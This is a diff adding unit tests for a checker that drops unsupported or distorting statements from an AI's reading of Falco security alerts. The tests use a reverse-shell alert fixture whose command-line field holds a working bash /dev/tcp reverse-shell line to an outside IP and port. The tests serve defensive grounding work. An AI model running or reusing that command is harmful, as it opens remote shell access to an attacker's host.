@@ -187,6 +187,118 @@ describe('what an attacker wrote does not become our words', () => {
   })
 })
 
+describe('a reading of a reverse shell', () => {
+  const field = (id: string, what: string, value: string) => ({ id, from: 'field' as const, what, value })
+  const seen = [
+    field('E1', 'priority', 'Critical'),
+    field('E2', 'proc.name', 'bash'),
+    field('E3', 'proc.pname', 'apache2'),
+    field('E4', 'proc.cmdline', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
+    field('E5', 'user.name', 'root'),
+    field('E6', 'user.loginuid', '-1'),
+    field('E7', 'proc.tty', '34816'),
+    field('E8', 'container.id', 'c61b4b13ae44'),
+    field('E9', 'hostname', 'web-7'),
+    { id: 'E10', from: 'rule' as const, what: 'tags', value: 'maturity_stable, container' },
+    { id: 'E11', from: 'knowledge' as const, what: 'usual causes', value: 'Operators and SREs at work in a shell.' },
+    field('E12', 'user.loginname', 'no value'),
+  ]
+  const because = [{ prose: ['It opens a network connection from within the shell, as reverse shells do.'], evidence: ['E4'] }]
+  const verdict: ReportVerdict = { ...unsettled, label: 'suspicious', because }
+  const dropped = (parts: Partial<Answer>) => verify(answer(parts), { evidence: seen, verdict }).dropped.map(({ text }) => text)
+
+  test.each([
+    ['There is nothing here.', 'E1'],
+    ['The priority Critical means nothing here.', 'E1'],
+    ['The alert points to nothing.', 'E1'],
+    ['None of this is here.', 'E1'],
+    ['The verdict means nothing.', 'E1'],
+    ['Falco does not say that the parent is `apache2`.', 'E3'],
+    ["Falco doesn't name the parent.", 'E3'],
+    ['The evidence names no parent process.', 'E3'],
+    ['The event shows no container.', 'E8'],
+    ['The event shows no container.', 'E12'],
+    ['The event has no user.', 'E12'],
+    ['Nobody is named as the user.', 'E5'],
+    ['Nobody is named as the user.', 'E12'],
+    ['The level maturity_stable of the rule is its priority.', 'E10'],
+    ['The tag maturity_stable of the rule is its priority.', 'E10'],
+    ['The login session -1 is that of root.', 'E5', 'E6'],
+    ['The login session -1 is that of the user root.', 'E5', 'E6'],
+    ['The reason for the alert is the terminal 34816.', 'E7'],
+    ['The terminal 34816 belongs to root.', 'E5', 'E7'],
+    ['The event fits operators and SREs at work.', 'E11'],
+    ['The alert is without meaning.', 'E1'],
+    ['The child is apache2.', 'E3'],
+    ['The child of bash is apache2.', 'E2', 'E3'],
+    ['bash is above apache2.', 'E2', 'E3'],
+    ['The process apache2 is under bash.', 'E2', 'E3'],
+    ['The command line points to a reverse shell.', 'E4'],
+  ])('does not say: %s', (text, ...ids) => {
+    expect(dropped({ reading: [said(text, ...ids)] })).toEqual([text])
+  })
+
+  test.each([
+    'This may be of no concern.',
+    'Perhaps nobody has to look.',
+    'There may be nothing for the on-call person.',
+    'This may be a security test and nothing else.',
+    'Perhaps this can be closed without a look.',
+    'Perhaps this may be closed.',
+    'Perhaps the whole cluster is compromised.',
+    'The cluster may be compromised.',
+    'An attacker might have access to all hosts.',
+    'This may be harmless.',
+    'It may be only a test.',
+    'The priority may be low.',
+    'It may be fine.',
+    'The child of bash may be apache2.',
+  ])('neither belittles nor exaggerates by supposing or asking: %s', (text) => {
+    const ids = ['E1', 'E2', 'E3']
+    expect(dropped({ hypotheses: [said(text, ...ids)] })).toHaveLength(1)
+    expect(dropped({ questions: [said(`Is it possible that ${text.toLowerCase().replace('.', '?')}`, ...ids)] })).toHaveLength(1)
+  })
+
+  test.each([
+    ['The parent of bash is apache2.', 'E2', 'E3'],
+    ['The process bash has the parent apache2 and the user root.', 'E2', 'E3', 'E5'],
+    ['The priority is Critical.', 'E1'],
+    ['The event has no login name.', 'E12'],
+    ['The terminal is 34816.', 'E7'],
+  ])('says what holds: %s', (text, ...ids) => {
+    expect(verify(answer({ reading: [said(text, ...ids)] }), { evidence: seen, verdict }).dropped).toEqual([])
+  })
+
+  test('may be supposed where the report has seen a sign of one in that very evidence', () => {
+    const one = said('The command line points to a reverse shell.', 'E4')
+    expect(dropped({ hypotheses: [one] })).toEqual([])
+    expect(dropped({ hypotheses: [{ ...one, evidence: ['E3'] }] })).toHaveLength(1)
+    expect(verify(answer({ hypotheses: [one] }), { evidence: seen, verdict: unsettled }).dropped).toHaveLength(1)
+  })
+
+  test('the host of a plugin, which is only where Falco runs, is not spoken of', () => {
+    const audit = [field('E1', 'hostname', 'falco-0'), field('E2', 'ka.target.name', 'nginx-qmrt5'), field('E3', 'ka.verb', 'create')]
+    const reading = [said('nginx-qmrt5 is on the host falco-0.', 'E1', 'E2'), said('The host is falco-0.', 'E1')]
+    expect(verify(answer({ reading }), { evidence: audit, verdict }).dropped).toHaveLength(2)
+  })
+})
+
+describe('what an honest model would rather say', () => {
+  test('a question for the event generator by its English name, where the evidence shows it', () => {
+    const one = said("Did anybody run Falco's event generator on mini-debian-lab?", 'E4', 'E8')
+    expect(judged({ questions: [one] })).toMatch(/^kept: /)
+    expect(judged({ questions: [{ ...one, evidence: ['E8'] }] })).toMatch(/^dropped: /)
+    expect(judged({ reading: [said('The parent is the event generator.', 'E4')] })).toMatch(/^dropped: /)
+  })
+
+  test('that a script did not run for all that its shell began', () => {
+    const text = 'SUCCESS is the result of the execve of sh, so it does not show that the script itself ran.'
+    expect(judged({ reading: [said(text, 'E2', 'E12', 'E13')] })).toMatch(/^kept: /)
+    expect(judged({ reading: [said(text.replace('the script itself', 'sh'), 'E2', 'E12', 'E13')] })).toMatch(/^dropped: /)
+    expect(judged({ reading: [said('The process is sh, so it does not show that the script itself ran.', 'E2')] })).toMatch(/^dropped: /)
+  })
+})
+
 describe('letters that only look alike are no letters', () => {
   test.each([
     ['Cyrillic in a name', said('The process is ѕh.', 'E2')],
